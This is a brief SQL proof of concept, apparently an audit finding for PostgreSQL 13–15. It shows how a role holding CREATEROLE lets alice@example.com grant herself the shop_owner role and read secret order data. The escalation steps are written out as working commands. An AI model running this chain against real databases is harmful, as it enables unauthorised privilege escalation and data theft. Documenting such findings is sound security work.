-- finding: role-createrole role makers
-- server: 13..15
CREATE ROLE makers CREATEROLE;
GRANT makers TO "alice@example.com";
-- leak as alice@example.com
SET ROLE makers; GRANT shop_owner TO "alice@example.com"; RESET ROLE;
SELECT item FROM shop.orders WHERE item = 'secret';
